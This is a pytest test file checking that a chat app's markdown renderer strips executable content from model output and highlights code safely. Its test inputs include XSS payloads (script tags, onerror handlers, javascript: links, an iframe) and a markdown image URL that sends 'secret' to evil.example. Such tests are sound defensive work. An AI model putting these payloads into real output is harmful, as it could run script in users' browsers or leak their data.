"""Model output becomes markup only through markdown-it (HTML off) and nh3."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from chatapp.highlight import MAX_CODE_CHARS, stylesheet
from chatapp.rendering import ALLOWED_TAGS, render_markdown


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[data](data:text/html;base64,PHNjcmlwdD4=)",
        "![svg](data:image/svg+xml;base64,PHN2Zz4=)",
        '<a href="https://ok.example" onclick="x()">a</a>',
        "<iframe src=https://evil.example></iframe>",
        "<style>body{display:none}</style>",
    ],
)
def test_nothing_executable_survives(text: str) -> None:
    for tag, attrs in Elements(render_markdown(text)).found:
        assert tag in ALLOWED_TAGS
        assert not any(name.startswith("on") or name == "style" for name in attrs)
        for name in ("href", "src"):
            url = (attrs.get(name) or "").lower()
            assert not url or url.startswith(("https://", "http://", "data:image/png"))


def test_markdown_renders_with_safe_links_and_raster_images() -> None:
    html = render_markdown(
        "# Title\n\n**b** `code` [x](https://e.example/a?b=1&c=2) ![i](data:image/png;base64,AAAA)"
        "\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>b</strong>" in html
    assert "<code>code</code>" in html
    assert 'href="https://e.example/a?b=1&amp;c=2" target="_blank" rel="noopener nofollow"' in html
    assert '<img src="data:image/png;base64,AAAA" alt="i">' in html
    assert "<table>" in html


def test_relative_and_mailto_links_lose_their_target() -> None:
    html = render_markdown("[a](/admin/) [b](mailto:x@example.org)")
    assert "href" not in html
    assert ">a</a>" in html


def test_remote_markdown_image_becomes_a_link_never_an_img() -> None:
    html = render_markdown(
        "![chart](https://evil.example/leak.png?c=secret) "
        "![svg](data:image/svg+xml;base64,PHN2Zz4=)"
    )
    assert "<img" not in html
    assert '<a href="https://evil.example/leak.png?c=secret" target="_blank"' in html
    assert ">chart</a>" in html


# --- Code highlighting --------------------------------------------------------------------------


def test_code_in_a_known_language_is_highlighted_with_classes_only() -> None:
    html = render_markdown('```python\ndef f(x):\n    return "<script>"  # hi\n```')
    assert html.startswith('<pre><code class="language-python"><span class="k">def</span>')
    assert '<span class="nf">f</span>' in html
    assert '<span class="s2">"&lt;script&gt;"</span>' in html, "the code's text stays escaped"
    assert "style=" not in html, "colours come from classes (the CSP forbids inline style)"


@pytest.mark.parametrize("info", ["", "no-such-language", 'python" onclick="x'])
def test_code_in_another_or_no_language_stays_plain(info: str) -> None:
    html = render_markdown(f"```{info}\n<b>x</b> = 1\n```")
    assert "<span" not in html
    assert "&lt;b&gt;x&lt;/b&gt; = 1" in html
    assert "onclick" not in html


def test_a_huge_code_block_is_left_plain() -> None:
    code = "x = 1\n" * (MAX_CODE_CHARS // 6 + 1)
    assert "<span" not in render_markdown(f"```python\n{code}```")


def test_model_text_cannot_forge_token_spans() -> None:
    html = render_markdown('<span class="k">forged</span> and `<span class="k">x</span>`')
    assert "<span" not in html


def test_the_stylesheet_is_the_generated_one() -> None:
    path = Path(__file__).resolve().parents[2] / "static" / "chatapp" / "highlight.css"
    assert path.read_text() == stylesheet(), "regenerate with chatapp.highlight.stylesheet()"


def test_table_columns_keep_their_alignment_as_classes() -> None:
    html = render_markdown("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
    assert '<th class="align-left">a</th>' in html
    assert '<th class="align-center">b</th>' in html
    assert '<td class="align-right">3</td>' in html
    assert "<td>4</td>" in html
    assert "style" not in html
